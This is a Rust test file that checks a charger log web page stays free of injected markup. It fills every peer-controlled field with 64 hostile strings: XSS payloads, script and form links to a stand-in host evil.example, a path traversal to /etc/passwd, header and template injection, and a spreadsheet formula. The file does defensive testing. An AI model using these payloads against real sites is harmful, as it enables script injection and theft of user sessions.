//! Hostile text in every field that a peer fills, on the page, on the call's own page and in the search
//! form: the page has the same elements and attributes as with harmless text (security promise S10).

use store::{LoggedCall, LoggedDifference, LoggedOccurrence};

use super::*;
use crate::pages::logs::one;

const PAYLOADS: [&str; 64] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=csrf>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--<script>alert(1)</script>-->",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "x onmouseover=alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</select><script>alert(1)</script>",
    "</option><option selected>x",
    "</pre><script>alert(1)</script>",
    "</code></pre></details></article><script>alert(1)</script>",
    "</mark><b>bold</b>",
    "</bdi></time><i>x</i>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<b>bold</b>",
    "<table><tr><td>x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;&quot;&apos;",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/",
    "../../../etc/passwd",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u{0}<script>alert(1)</script>",
    "\r\n\r\n<script>alert(1)</script>",
    "\r\nevent: over\r\ndata: <script>alert(1)</script>",
    "<scr\u{0}ipt>alert(1)</script>",
    "\u{1b}[31m<script>",
    "\u{202e}<tpircs>",
    "\u{feff}<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "«<script>alert(1)</script>»",
    "=HYPERLINK(\"//evil.example\")",
    "<<<<<<<<>>>>>>>>\"\"\"\"''''&&&&",
];

/// Everything of a call that a peer can choose, set to the text.
fn everywhere(said: &str) -> LoggedCall {
    let mut call = start();
    let text = || said.to_owned();
    let json = serde_json::to_string(said).unwrap();
    call.from = Side::Backoffice(said.into());
    call.charger = said.into();
    call.leader = said.into();
    call.action = text();
    call.payload = format!("{{{json}:{json},\"status\":{json},\"data\":[{json}]}}");
    call.answer = Some(format!("{{\"idTagInfo\":{{\"status\":{json}}},\"status\":{json}}}"));
    call.error_code = Some(text());
    call.error_description = Some(text());
    call.decided_by = Some(text());
    call.flags = vec![text()];
    call.redacted = true;
    call.id_tag = Some(text());
    call.status = Some(text());
    for answer in &mut call.answers {
        answer.backoffice = said.into();
        answer.payload = Some(json.clone());
        answer.error_code = Some(text());
        answer.error_description = Some(text());
        answer.status = Some(text());
        answer.redacted = true;
        answer.differences =
            vec![LoggedDifference { pointer: text(), leader: Some(json.clone()), follower: Some(text()) }];
    }
    call.answers[1].outcome = "error".to_owned();
    call.answers[2].outcome = text();
    call.answers[2].verdict = text();
    call
}

/// The same with each way in which a call can end.
fn calls(said: &str) -> Vec<LoggedCall> {
    let ways =
        [("leader", "result"), ("proxy", "error"), ("charger", "result"), ("nobody", said), (said, said)];
    let actions = [said, "Authorize", "StartTransaction", "StatusNotification", "ChangeConfiguration"];
    ways.into_iter()
        .zip(actions)
        .map(|((decider, outcome), action)| LoggedCall {
            decider: decider.to_owned(),
            outcome: outcome.to_owned(),
            action: action.to_owned(),
            ..everywhere(said)
        })
        .collect()
}

fn whole_page(said: &str) -> String {
    let charger = ChargerId::from(said);
    let text = || said.to_owned();
    let choice = Choice {
        q: text(),
        action: text(),
        from: format!("backoffice:{said}"),
        outcome: text(),
        time: text(),
        since: text(),
        until: String::new(),
        routine: text(),
        id_tag: text(),
        transaction: text(),
        before: String::new(),
        after: text(),
    };
    let calls = calls(said);
    let occurrence = |kind: &str| LoggedOccurrence {
        seq: 1,
        charger: charger.clone(),
        unix_ms: 5,
        kind: kind.to_owned(),
        who: text(),
        detail: text(),
    };
    let page = page::Logs {
        charger: &charger,
        choice: &choice,
        actions: &[text(), "Heartbeat".to_owned()],
        backoffices: &[said.into()],
        calls: &calls,
        occurrences: &[occurrence(said), occurrence("alert")],
        older: Some(choice.clone()),
        cursor: 3,
        is_online: false,
        hides_cards: false,
    };
    let alone: String = calls.iter().map(|call| one::body(call).into_string()).collect();
    page.body().into_string() + &alone
}

/// Every tag with the names of its attributes; their values stand in double quotes, where only a quote
/// could end them.
fn skeleton(html: &str) -> Vec<String> {
    let mut tags = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        rest = &rest[start + 1..];
        let (mut tag, mut quoted, mut end) = (String::new(), false, rest.len());
        for (at, character) in rest.char_indices() {
            match character {
                '"' => quoted = !quoted,
                '>' if !quoted => {
                    end = at;
                    break;
                }
                other if !quoted => tag.push(other),
                _ => {}
            }
        }
        assert!(end < rest.len(), "a tag without an end");
        tags.push(tag);
        rest = &rest[end..];
    }
    tags
}

/// The elements are those of harmless text, except where more or less of it is marked or has a meaning.
fn without_marks(tags: Vec<String>) -> Vec<String> {
    tags.into_iter().filter(|tag| !matches!(tag.as_str(), "mark class= title=" | "/mark")).collect()
}

#[test]
fn no_text_of_a_peer_becomes_part_of_the_page() {
    let harmless = without_marks(skeleton(&whole_page("harmless")));
    assert!(harmless.len() > 500, "{} tags", harmless.len());
    let mut seen = 0;
    for said in PAYLOADS {
        let html = whole_page(said);
        assert_eq!(without_marks(skeleton(&html)), harmless, "{said:?}");
        for forbidden in ["<script", "<img", "href=\"//evil", "src=\""] {
            assert!(!html.to_lowercase().contains(forbidden), "{said:?}: {forbidden}");
        }
        for address in html.split("href=\"").skip(1) {
            assert!(address.starts_with('/') && !address.starts_with("//"), "{said:?}: {}", &address[..20]);
        }
        seen += 1;
    }
    assert_eq!(seen, 64);
}
